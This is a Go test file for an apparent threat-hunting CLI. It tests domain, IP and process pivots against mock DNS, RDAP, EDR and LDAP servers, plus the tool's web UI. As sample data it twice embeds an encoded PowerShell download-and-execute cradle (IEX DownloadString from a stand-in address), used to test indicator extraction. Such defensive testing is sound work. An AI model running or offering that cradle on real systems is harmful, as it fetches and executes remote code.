package cli

import (
	"encoding/binary"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/hunchsec/hunch/automation/respond"
	"github.com/hunchsec/hunch/internal/demogeo"
	"github.com/hunchsec/hunch/internal/testldap"
	"github.com/hunchsec/hunch/pipeline/pivot"
)

// dnsServer answers A queries for every name with addrs (and AAAA with none), over UDP.
func dnsServer(t *testing.T, addrs ...string) string {
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { pc.Close() })
	go func() {
		buf := make([]byte, 1500)
		for {
			n, from, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			q := buf[:n]
			if len(q) < 12 {
				continue
			}
			// the question ends after its name's zero byte, then type and class
			end := 12
			for end < len(q) && q[end] != 0 {
				end += int(q[end]) + 1
			}
			end += 5
			if end > len(q) {
				continue
			}
			qtype := binary.BigEndian.Uint16(q[end-4:])
			var answers [][]byte
			if qtype == 1 {
				for _, a := range addrs {
					rr := []byte{0xC0, 0x0C, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4}
					answers = append(answers, append(rr, net.ParseIP(a).To4()...))
				}
			}
			resp := make([]byte, 12, 512)
			copy(resp, q[:2])
			binary.BigEndian.PutUint16(resp[2:], 0x8180)
			binary.BigEndian.PutUint16(resp[4:], 1)
			binary.BigEndian.PutUint16(resp[6:], uint16(len(answers)))
			resp = append(resp, q[12:end]...)
			for _, a := range answers {
				resp = append(resp, a...)
			}
			pc.WriteTo(resp, from)
		}
	}()
	return pc.LocalAddr().String()
}

// rdapServer answers RDAP for every IPv4 address with the recorded ARIN reply, through its own bootstrap.
func rdapServer(t *testing.T) *httptest.Server {
	arin, err := os.ReadFile("../../enrich/whois/testdata/rdap/arin_ip_8.8.8.8.json")
	if err != nil {
		t.Fatal(err)
	}
	var srv *httptest.Server
	srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.URL.Path == "/bootstrap/ipv4.json":
			w.Write([]byte(`{"version":"1.0","publication":"2026-11-01T00:00:00Z","services":[[["8.0.0.0/8","198.51.100.0/24","203.0.113.0/24"],["` + srv.URL + `/registry/"]]]}`))
		case strings.HasPrefix(r.URL.Path, "/registry/ip/"):
			w.Header().Set("Content-Type", "application/rdap+json")
			w.Write(arin)
		default:
			w.WriteHeader(http.StatusNotFound)
			w.Write([]byte(`{"errorCode":404,"title":"Not Found"}`))
		}
	}))
	t.Cleanup(srv.Close)
	return srv
}

// TestPivotChain: domain → resolve → whois → lookup in one pipeline of pivots, each reading the
// entities of the one before.
func TestPivotChain(t *testing.T) {
	dns := dnsServer(t, "198.51.100.23", "8.8.8.8")
	rdap := rdapServer(t)
	examples, _ := filepath.Abs("../../examples")
	cfg := writeConfig(t, "enrich:\n  providers:\n    threatintel: {type: local, files: ["+examples+"/intel.csv], reliability: B}\n"+
		"whois:\n  bootstrap_url: "+rdap.URL+"/bootstrap/\n  cymru: \"off\"\n")
	data := t.TempDir()
	code, ips, errOut := runHunch(t, "", "pivot", "domain", "c2.example.com", "resolve", "--dns", dns, "--config", cfg, "-o", "ndjson")
	if code != ExitOK || strings.Count(ips, "\n") != 2 || !strings.Contains(ips, `"ip":"198.51.100.23"`) {
		t.Fatalf("resolve: %d %s %s", code, ips, errOut)
	}
	code, who, errOut := runHunch(t, ips, "pivot", "ip", "-", "whois", "--config", cfg, "--data", data, "-o", "ndjson")
	if code != ExitOK || strings.Count(who, "\n") != 2 || !strings.Contains(who, `"query":"198.51.100.23"`) || !strings.Contains(who, `"registrant":"Google LLC"`) {
		t.Fatalf("whois: %d %s %s", code, who, errOut)
	}
	code, verdicts, errOut := runHunch(t, who, "pivot", "ip", "-", "lookup", "--config", cfg, "--data", data, "-o", "ndjson")
	if code != ExitOK || strings.Count(verdicts, "\n") != 2 {
		t.Fatalf("lookup: %d %s %s", code, verdicts, errOut)
	}
	got := map[string]string{}
	for _, l := range strings.Split(strings.TrimSpace(verdicts), "\n") {
		var r struct{ Indicator, Verdict string }
		json.Unmarshal([]byte(l), &r)
		got[r.Indicator] = r.Verdict
	}
	if got["198.51.100.23"] != "malicious" || got["8.8.8.8"] != "unknown" {
		t.Errorf("verdicts %v", got)
	}
}

// TestPivotRegistryCallable lists each kind's functions and runs every registered function from the
// CLI on a sample of its kind, offline: recorded DNS, RDAP and EDR replies, a generated GeoIP
// database, the examples' intel lists and events; destructive ones as dry runs.
func TestPivotRegistryCallable(t *testing.T) {
	dns := dnsServer(t, "198.51.100.23")
	rdap := rdapServer(t)
	mde := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/t/oauth2/v2.0/token":
			w.Write([]byte(`{"token_type":"Bearer","expires_in":3599,"access_token":"tok"}`))
		case "/api/machines":
			w.Write([]byte(`{"value":[{"id":"m1","computerDnsName":"wks-014.corp.example.com"}]}`))
		default:
			w.WriteHeader(http.StatusNotFound)
		}
	}))
	defer mde.Close()
	examples, _ := filepath.Abs("../../examples")
	cfg := writeConfig(t, "enrich:\n  providers:\n    threatintel: {type: local, files: ["+examples+"/intel.csv], reliability: B}\n"+
		"whois:\n  bootstrap_url: "+rdap.URL+"/bootstrap/\n  cymru: \"off\"\n")
	data := t.TempDir()
	if err := demogeo.Write(filepath.Join(data, "geoip", "demo.mmdb")); err != nil {
		t.Fatal(err)
	}
	runHunch(t, "", "init", "--data", data, "--org", "Pivot SOC")
	ldapURL := testldap.Start(t)
	dir := &respond.LDAP{URL: ldapURL, BindDN: testldap.AdminDN, Password: testldap.Password, BaseDN: testldap.BaseDN}
	dir.Add(t.Context(), testldap.BaseDN, map[string][]string{"objectClass": {"dcObject", "organization"}, "dc": {"corp"}, "o": {"Corp"}})
	if err := dir.Add(t.Context(), "uid=jdoe,"+testldap.BaseDN, map[string][]string{"objectClass": {"inetOrgPerson", "adUser"}, "uid": {"jdoe"},
		"cn": {"J Doe"}, "sn": {"Doe"}, "sAMAccountName": {"jdoe"}, "userAccountControl": {"512"}}); err != nil {
		t.Fatal(err)
	}
	vars := map[string]string{"HUNCH_MDE_TENANT_ID": "t", "HUNCH_MDE_CLIENT_ID": "c", "HUNCH_MDE_CLIENT_SECRET": "s", "HUNCH_MDE_URL": mde.URL, "HUNCH_MDE_LOGIN_URL": mde.URL,
		"HUNCH_LDAP_URL": ldapURL, "HUNCH_LDAP_BIND_DN": testldap.AdminDN, "HUNCH_LDAP_PASSWORD": testldap.Password, "HUNCH_LDAP_BASE_DN": testldap.BaseDN}
	samples := map[string]string{
		pivot.IP: "198.51.100.23", pivot.Domain: "c2.example.com", pivot.URL: "http://198.51.100.23/a.ps1", pivot.Hash: strings.Repeat("a", 64),
		pivot.Email: "it-support@login-verify.example.com", pivot.Host: "WKS-014.corp.example.com", pivot.Account: "jdoe",
		pivot.Process: "powershell.exe -NoP -enc " + encodedPowerShell("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')"),
	}
	extra := map[string][]string{
		"resolve": {"--dns", dns}, "isolate": {"--dry-run"}, "release": {"--dry-run"}, "block": {"--list", "c2", "--dry-run"},
		"disable": {"--dry-run"}, "enable": {"--dry-run"}, "sigma": {examples + "/sigma"},
	}
	reg := pivot.Default()
	ran := 0
	for _, kind := range pivot.Kinds {
		code, list, errOut := runHunch(t, "", "pivot", kind, samples[kind], "--config", cfg, "-o", "ndjson")
		if code != ExitOK {
			t.Fatalf("list %s: %s", kind, errOut)
		}
		for _, f := range reg.For(kind) {
			if !strings.Contains(list, `"function":"`+f.Name+`"`) {
				t.Errorf("%s: %s not listed", kind, f.Name)
			}
			args := append([]string{"pivot", kind, samples[kind], f.Name}, extra[f.Name]...)
			if f.Name == "query" {
				tmpl := map[string]string{pivot.Host: "files.process_by_host", pivot.Account: "files.process_by_account",
					pivot.IP: "files.network_to_ip", pivot.Domain: "files.dns_for_domain"}[kind]
				if tmpl == "" {
					continue // no bundled template takes this kind; the listing shows which do
				}
				if !strings.Contains(list, `"function":"query `+tmpl+`"`) {
					t.Errorf("%s: template %s not listed", kind, tmpl)
				}
				args = append(args, tmpl, "--files", examples+"/events.ndjson")
			}
			args = append(args, "--config", cfg, "--data", data, "-o", "ndjson")
			code, out, errOut := runHunchEnv(t, vars, "", args...)
			if code != ExitOK && code != ExitPartial {
				t.Errorf("pivot %s %s: exit %d: %s", kind, f.Name, code, errOut)
				continue
			}
			if strings.TrimSpace(out) == "" && code == ExitOK && f.Name != "intel" && f.Name != "query" {
				t.Errorf("pivot %s %s wrote nothing", kind, f.Name)
			}
			ran++
		}
	}
	if ran < 30 {
		t.Errorf("ran %d pivots", ran)
	}
	// A host isolated for real needs --yes; a value of the wrong kind is refused.
	if code, _, errOut := runHunchEnv(t, vars, "", "pivot", "host", "WKS-014.corp.example.com", "isolate"); code != ExitUsage || !strings.Contains(errOut, "--yes") {
		t.Errorf("isolate without --yes: %d %s", code, errOut)
	}
	if code, _, errOut := runHunch(t, "", "pivot", "ip", "c2.example.com", "lookup"); code != ExitUsage || !strings.Contains(errOut, "not a valid ip") {
		t.Errorf("wrong kind: %d %s", code, errOut)
	}
	if code, _, errOut := runHunch(t, "", "pivot", "asn", "64500"); code != ExitUsage || !slices.ContainsFunc(pivot.Kinds, func(k string) bool { return strings.Contains(errOut, k) }) {
		t.Errorf("unknown kind: %d %s", code, errOut)
	}
}

// TestServePivotPages logs into hunch serve's web UI with an API key and runs pivots from an
// entity page through the server's own runner: the verdict of an address, and a command line
// decoded into the address it reaches, linked to its own page.
func TestServePivotPages(t *testing.T) {
	examples, _ := filepath.Abs("../../examples")
	cfg := writeConfig(t, "enrich:\n  providers:\n    threatintel: {type: local, files: ["+examples+"/intel.csv], reliability: B}\n")
	data := t.TempDir()
	addr := freeAddr(t)
	logs, stop := startServeEnv(t, data, addr, nil, "--config", cfg)
	defer stop()
	key := apiKeyFrom(t, logs.String())
	jar, _ := cookiejar.New(nil)
	c := &http.Client{Jar: jar}
	base := "http://" + addr
	res, err := c.Get(base + "/ui/login")
	if err != nil {
		t.Fatal(err)
	}
	page, _ := io.ReadAll(res.Body)
	res.Body.Close()
	m := regexp.MustCompile(`name="login_token" value="([^"]+)"`).FindSubmatch(page)
	if m == nil {
		t.Fatalf("no login token:\n%s", page)
	}
	res, err = c.PostForm(base+"/ui/login", url.Values{"login_token": {string(m[1])}, "apikey": {key}})
	if err != nil || res.StatusCode != 200 {
		t.Fatalf("login: %v %v", res.Status, err)
	}
	res.Body.Close()
	get := func(path string) string {
		t.Helper()
		res, err := c.Get(base + path)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		b, _ := io.ReadAll(res.Body)
		if res.StatusCode != 200 {
			t.Fatalf("%s: %d\n%s", path, res.StatusCode, b)
		}
		return string(b)
	}
	if p := get("/ui/pivot/ip?value=198.51.100.23&function=lookup"); !strings.Contains(p, "malicious") || !strings.Contains(p, `id="pivot-count">1 record(s)`) {
		t.Errorf("lookup page:\n%s", p)
	}
	cmd := "powershell.exe -NoP -enc " + encodedPowerShell("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')")
	p := get("/ui/pivot/process?value=" + url.QueryEscape(cmd) + "&function=extract")
	if !strings.Contains(p, `href="/ui/pivot/ip?value=198.51.100.23"`) {
		t.Errorf("extract page does not link the address:\n%s", p)
	}
}
